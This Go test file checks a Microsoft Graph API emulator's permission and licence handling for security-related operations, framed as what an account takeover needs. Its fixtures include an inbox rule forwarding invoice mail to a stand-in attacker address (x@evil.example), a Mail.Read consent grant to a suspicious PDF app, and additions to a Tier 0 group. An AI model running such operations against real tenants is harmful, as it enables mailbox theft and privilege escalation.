package emulator_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"msgraph-user/emulator"
)

// People and things of the sample company that attacks and their tests are about.
const (
	risky    = "olivia.stone@larkspur.example"
	roleUser = "noel.ivanov@larkspur.example" // Helpdesk Administrator, eligible User Administrator
	nobody   = "aaaaaaaa-0000-0000-0000-000000000001"
	oneApp   = "99999999-9999-9999-9999-999999999999"
	helpRole = "729827e3-9c14-49f7-bb1b-9608f156bbb8"
	userRole = "fe930be7-5e62-47db-91af-98c3a49a38b1"
)

// checked is do, with the answer held against Microsoft's description.
func (x *tenant) checked(method, path, body string) answer {
	x.t.Helper()
	a := x.do(method, path, body)
	log := x.Requests()
	if err := readMetadata(x.t).answerFits(log[len(log)-1].Operation, a.status, any(a.json)); a.json != nil && err != nil {
		x.t.Errorf("%s %s: the answer does not fit the OpenAPI description: %v\n%s", method, path, err, a.text)
	}
	return a
}

// with returns text with the ids of the sample company in the places of their names.
func (x *tenant) with(text string) string {
	x.t.Helper()
	for mark, find := range map[string]func() string{
		"{plain}":  func() string { return x.id(plain) },
		"{risky}":  func() string { return x.id(risky) },
		"{guest}":  func() string { return x.id(strings.ReplaceAll(guest, "#", "%23")) },
		"{role}":   func() string { return x.id(roleUser) },
		"{signIn}": func() string { return x.first("/v1.0/auditLogs/signIns", "id") },
		"{audit}":  func() string { return x.first("/v1.0/auditLogs/directoryAudits", "id") },
		"{detection}": func() string {
			return x.first("/v1.0/identityProtection/riskDetections?$filter=userId eq '"+x.id(risky)+"'", "id")
		},
		"{grant}":      func() string { return x.first("/v1.0/users/"+plain+"/oauth2PermissionGrants", "id") },
		"{appRole}":    func() string { return x.first("/v1.0/users/"+plain+"/appRoleAssignments", "id") },
		"{rule}":       func() string { return x.first("/v1.0/users/"+plain+"/mailFolders/inbox/messageRules", "id") },
		"{device}":     func() string { return x.first("/v1.0/devices", "id") },
		"{assignment}": func() string { return x.first(assignmentsOf(x.id(roleUser)), "id") },
		"{vpn}":        func() string { return x.group("VPN Users") },
		"{tier0}":      func() string { return x.group("Tier 0 operators") },
		"{member}":     func() string { return x.first("/v1.0/groups/"+x.group("VPN Users")+"/members", "id") },
		"{expenses}":   func() string { return x.first("/v1.0/servicePrincipals?$filter=displayName eq 'Expenses'", "id") },
		"{graph}": func() string {
			return x.first("/v1.0/servicePrincipals?$filter=displayName eq 'Microsoft Graph'", "id")
		},
		"{pdf}": func() string { return x.first("/v1.0/servicePrincipals?$filter=displayName eq 'PDF Merge Free'", "id") },
		"{request}": func() string {
			x.want(x.do("POST", "/v1.0/roleManagement/directory/roleAssignmentScheduleRequests", roleRequest("adminAssign", x.id(plain), helpRole)), 201)
			return x.first("/v1.0/roleManagement/directory/roleAssignmentScheduleRequests", "id")
		},
	} {
		if strings.Contains(text, mark) {
			text = strings.ReplaceAll(text, mark, find())
		}
	}
	return text
}

func (x *tenant) first(path, property string) string {
	x.t.Helper()
	value := x.want(x.get(path), 200).value()
	if len(value) == 0 {
		x.t.Fatalf("%s: there is nothing", path)
	}
	return fmt.Sprint(value[0][property])
}

func (x *tenant) group(name string) string {
	x.t.Helper()
	return x.first("/v1.0/groups?$filter=displayName eq '"+name+"'", "id")
}

func assignmentsOf(principal string) string {
	return "/v1.0/roleManagement/directory/roleAssignments?$filter=principalId eq '" + principal + "'"
}

func roleRequest(action, principal, role string) string {
	return `{"action":"` + action + `","principalId":"` + principal + `","roleDefinitionId":"` + role + `","directoryScopeId":"/","justification":"test","scheduleInfo":{"expiration":{"type":"noExpiration"}}}`
}

// securityOperation is an operation with what it needs and how it refuses.
type securityOperation struct {
	method, path, body string
	status             int
	least              string // the permissions that together suffice
	role               bool   // the application must be an administrator of roles besides
	missing            string // a path or body that names nothing; "" where there is none
	unlicensed         string // the code in a tenant without a licence; "" where it needs none
}

const (
	auditLogs  = "/v1.0/auditLogs/"
	protection = "/v1.0/identityProtection/"
	roles      = "/v1.0/roleManagement/directory/"
	noPremium  = "403 Authentication_RequestFromNonPremiumTenantOrB2CTenant"
	noRisk     = "403 Forbidden"
	noPIM      = "400 AadPremiumLicenseRequired"
)

func securityOperations() []securityOperation {
	const rules = "/v1.0/users/" + plain + "/mailFolders/inbox/messageRules"
	const appRoles = "/v1.0/users/{plain}/appRoleAssignments"
	const ref = `{"@odata.id":"https://graph.microsoft.com/v1.0/directoryObjects/{role}"}`
	return []securityOperation{
		{"GET", auditLogs + "signIns?$filter=userId eq '{risky}' and createdDateTime ge 2026-11-01T00:00:00Z&$top=5", "", 200, "AuditLog.Read.All", false, "", noPremium},
		{"GET", auditLogs + "signIns/{signIn}", "", 200, "AuditLog.Read.All", false, auditLogs + "signIns/" + nobody, noPremium},
		{"GET", auditLogs + "directoryAudits?$filter=initiatedBy/user/id eq '{risky}' and activityDateTime ge 2026-11-01T00:00:00Z", "", 200, "AuditLog.Read.All", false, "", ""},
		{"GET", auditLogs + "directoryAudits?$filter=targetResources/any(t:t/id eq '{risky}')", "", 200, "AuditLog.Read.All", false, auditLogs + "directoryAudits/Directory_" + nobody, ""},

		{"GET", protection + "riskyUsers?$filter=riskState eq 'atRisk'", "", 200, "IdentityRiskyUser.Read.All", false, "", noRisk},
		{"GET", protection + "riskyUsers/{risky}", "", 200, "IdentityRiskyUser.Read.All", false, protection + "riskyUsers/" + nobody, noRisk},
		{"POST", protection + "riskyUsers/confirmCompromised", `{"userIds":["{plain}"]}`, 204, "IdentityRiskyUser.ReadWrite.All", false, `{"userIds":["` + nobody + `"]}`, noRisk},
		{"POST", protection + "riskyUsers/confirmSafe", `{"userIds":["{risky}"]}`, 204, "IdentityRiskyUser.ReadWrite.All", false, "", noRisk},
		{"POST", protection + "riskyUsers/dismiss", `{"userIds":["{risky}"]}`, 204, "IdentityRiskyUser.ReadWrite.All", false, `{"userIds":["` + nobody + `"]}`, noRisk},
		{"GET", protection + "riskDetections?$filter=userId eq '{risky}' and detectedDateTime ge 2026-11-01T00:00:00Z", "", 200, "IdentityRiskEvent.Read.All", false, "", noRisk},
		{"GET", protection + "riskDetections/{detection}", "", 200, "IdentityRiskEvent.Read.All", false, protection + "riskDetections/" + nobody, noRisk},

		{"GET", "/v1.0/oauth2PermissionGrants?$filter=consentType eq 'AllPrincipals'", "", 200, "Directory.Read.All", false, "", ""},
		{"GET", "/v1.0/users/" + plain + "/oauth2PermissionGrants", "", 200, "Directory.Read.All", false, "/v1.0/users/" + nobody + "/oauth2PermissionGrants", ""},
		{"GET", "/v1.0/oauth2PermissionGrants/{grant}", "", 200, "Directory.Read.All", false, "/v1.0/oauth2PermissionGrants/" + nobody, ""},
		{"POST", "/v1.0/oauth2PermissionGrants", `{"clientId":"{pdf}","consentType":"Principal","principalId":"{plain}","resourceId":"{graph}","scope":"Mail.Read"}`, 201, "DelegatedPermissionGrant.ReadWrite.All", false, "", ""},
		{"PATCH", "/v1.0/oauth2PermissionGrants/{grant}", `{"scope":"Mail.Read"}`, 204, "DelegatedPermissionGrant.ReadWrite.All", false, "/v1.0/oauth2PermissionGrants/" + nobody, ""},
		{"DELETE", "/v1.0/oauth2PermissionGrants/{grant}", "", 204, "DelegatedPermissionGrant.ReadWrite.All", false, "/v1.0/oauth2PermissionGrants/" + nobody, ""},

		{"GET", appRoles, "", 200, "Directory.Read.All", false, "/v1.0/users/" + nobody + "/appRoleAssignments", ""},
		{"GET", appRoles + "/{appRole}", "", 200, "Directory.Read.All", false, appRoles + "/" + nobody, ""},
		{"POST", appRoles, `{"principalId":"{plain}","resourceId":"{expenses}","appRoleId":"0e1b1a7c-3f7e-4a3e-9d57-6a0f3b9c1a02"}`, 201, "AppRoleAssignment.ReadWrite.All", false, `{"principalId":"{plain}","resourceId":"` + nobody + `","appRoleId":"0e1b1a7c-3f7e-4a3e-9d57-6a0f3b9c1a02"}`, ""},
		{"DELETE", appRoles + "/{appRole}", "", 204, "AppRoleAssignment.ReadWrite.All", false, appRoles + "/" + nobody, ""},

		{"GET", roles + "roleDefinitions?$filter=displayName eq 'User Administrator'", "", 200, "RoleManagement.Read.Directory", false, roles + "roleDefinitions/" + nobody, ""},
		{"GET", roles + "roleDefinitions/" + userRole, "", 200, "RoleManagement.Read.Directory", false, "", ""},
		{"GET", roles + "roleAssignments?$filter=principalId eq '{role}'&$expand=roleDefinition", "", 200, "RoleManagement.Read.Directory", false, "", ""},
		{"GET", roles + "roleAssignments/{assignment}", "", 200, "RoleManagement.Read.Directory", false, roles + "roleAssignments/" + nobody, ""},
		{"POST", roles + "roleAssignments", `{"principalId":"{plain}","roleDefinitionId":"` + helpRole + `","directoryScopeId":"/"}`, 201, "RoleManagement.ReadWrite.Directory", false, `{"principalId":"` + nobody + `","roleDefinitionId":"` + helpRole + `","directoryScopeId":"/"}`, ""},
		{"DELETE", roles + "roleAssignments/{assignment}", "", 204, "RoleManagement.ReadWrite.Directory", false, roles + "roleAssignments/" + nobody, ""},
		{"GET", roles + "roleAssignmentScheduleInstances?$filter=principalId eq '{role}'&$expand=roleDefinition", "", 200, "RoleAssignmentSchedule.Read.Directory", false, "", noPIM},
		{"GET", roles + "roleEligibilityScheduleInstances?$filter=principalId eq '{role}'&$expand=roleDefinition", "", 200, "RoleEligibilitySchedule.Read.Directory", false, "", noPIM},
		{"GET", roles + "roleAssignmentScheduleRequests", "", 200, "RoleAssignmentSchedule.ReadWrite.Directory", false, roles + "roleAssignmentScheduleRequests/" + nobody, noPIM},
		{"GET", roles + "roleAssignmentScheduleRequests/{request}", "", 200, "RoleAssignmentSchedule.ReadWrite.Directory", false, "", ""},
		{"GET", roles + "roleEligibilityScheduleRequests", "", 200, "RoleEligibilitySchedule.ReadWrite.Directory", false, roles + "roleEligibilityScheduleRequests/" + nobody, noPIM},
		{"POST", roles + "roleAssignmentScheduleRequests", roleRequest("adminRemove", "{role}", helpRole), 201, "RoleAssignmentSchedule.ReadWrite.Directory", true, roleRequest("adminRemove", nobody, helpRole), noPIM},
		{"POST", roles + "roleEligibilityScheduleRequests", roleRequest("adminRemove", "{role}", userRole), 201, "RoleEligibilitySchedule.ReadWrite.Directory", true, roleRequest("adminRemove", "{role}", nobody), noPIM},

		{"PATCH", "/v1.0/devices/{device}", `{"accountEnabled":false}`, 204, "Device.ReadWrite.All", false, "/v1.0/devices/" + nobody, ""},
		{"GET", "/v1.0/users/" + plain + "/registeredDevices", "", 200, "User.Read.All", false, "/v1.0/users/" + nobody + "/registeredDevices", ""},
		{"GET", "/v1.0/users/" + plain + "/ownedDevices", "", 200, "User.Read.All", false, "/v1.0/users/" + nobody + "/ownedDevices", ""},

		{"GET", rules, "", 200, "MailboxSettings.Read", false, "/v1.0/users/" + nobody + "/mailFolders/inbox/messageRules", ""},
		{"GET", rules + "/{rule}", "", 200, "MailboxSettings.Read", false, rules + "/" + nobody, ""},
		{"POST", rules, `{"displayName":"Away","sequence":3,"isEnabled":true,"conditions":{"subjectContains":["invoice"]},"actions":{"forwardTo":[{"emailAddress":{"name":"X","address":"x@evil.example"}}],"stopProcessingRules":true}}`, 201, "MailboxSettings.ReadWrite", false, "", ""},
		{"PATCH", rules + "/{rule}", `{"isEnabled":false}`, 200, "MailboxSettings.ReadWrite", false, rules + "/" + nobody, ""},
		{"DELETE", rules + "/{rule}", "", 204, "MailboxSettings.ReadWrite", false, rules + "/" + nobody, ""},

		{"POST", "/v1.0/groups/{vpn}/members/$ref", ref, 204, "GroupMember.ReadWrite.All", false, strings.Replace(ref, "{role}", nobody, 1), ""},
		{"DELETE", "/v1.0/groups/{vpn}/members/{member}/$ref", "", 204, "GroupMember.ReadWrite.All", false, "/v1.0/groups/{vpn}/members/" + nobody + "/$ref", ""},
		{"POST", "/v1.0/groups/{tier0}/members/$ref", ref, 204, "GroupMember.ReadWrite.All RoleManagement.ReadWrite.Directory", false, "/v1.0/groups/" + nobody + "/members/$ref", ""},
		{"GET", "/v1.0/users/" + plain + "/licenseDetails", "", 200, "LicenseAssignment.Read.All", false, "/v1.0/users/" + nobody + "/licenseDetails", ""},
		{"GET", "/v1.0/directory/deletedItems/microsoft.graph.user", "", 200, "User.Read.All", false, "/v1.0/directory/deletedItems/" + nobody, ""},
	}
}

// Each operation works with its least permissions, and is refused without them, for
// what is not there, and where the tenant has no licence; all that comes and goes fits
// Microsoft's description.
func TestWhatATakeoverNeedsIsAnsweredAndRefused(t *testing.T) {
	for _, o := range securityOperations() {
		t.Run(o.method+" "+o.path, func(t *testing.T) {
			x := start(t, emulator.Options{Seed: withApplication(t, strings.Fields(o.least))})
			x.want(x.do("POST", "/v1.0/users/"+risky+"/revokeSignInSessions", ""), 200) // there is an audit
			if o.role {
				x.want(x.do("POST", roles+"roleAssignments", `{"principalId":"`+x.first("/v1.0/servicePrincipals?$filter=appId eq '"+oneApp+"'", "id")+`","roleDefinitionId":"e8611ab8-c189-46e8-94e1-60213ab1f814","directoryScopeId":"/"}`), 201)
			}
			path, body := x.with(o.path), x.with(o.body)
			if o.missing != "" {
				missing, missingBody := x.with(o.missing), body
				if strings.HasPrefix(missing, "{") {
					missing, missingBody = path, missing
				}
				if a := x.checked(o.method, missing, missingBody); a.status != 404 || a.code() == "" {
					t.Errorf("%s: %d %s", missing, a.status, a.text)
				}
			}
			application := x.token
			x.token = x.signIn("33333333-3333-3333-3333-333333333333", "too-little-secret")
			if a := x.checked(o.method, path, body); a.status != 403 || a.code() == "" {
				t.Errorf("an application with too little: %d %s", a.status, a.text)
			}
			x.token = x.signIn(oneApp, "one-permission-secret")
			if a := x.checked(o.method, path, body); a.status != o.status {
				t.Errorf("with the least permission: %d, want %d: %s", a.status, o.status, a.text)
			}
			log := x.Requests()
			if least := log[len(log)-1].Least; !slices.Equal(least, strings.Fields(o.least)) {
				t.Errorf("the log calls %q least, want %q", least, o.least)
			}
			if o.unlicensed == "" {
				return
			}
			x.token = application
			x.want(x.do("POST", "/_emulator/license", `{"license":"free"}`), 200)
			if a := x.checked(o.method, path, body); fmt.Sprint(a.status, " ", a.code()) != o.unlicensed {
				t.Errorf("without a licence: %d %s", a.status, a.text)
			}
		})
	}
}
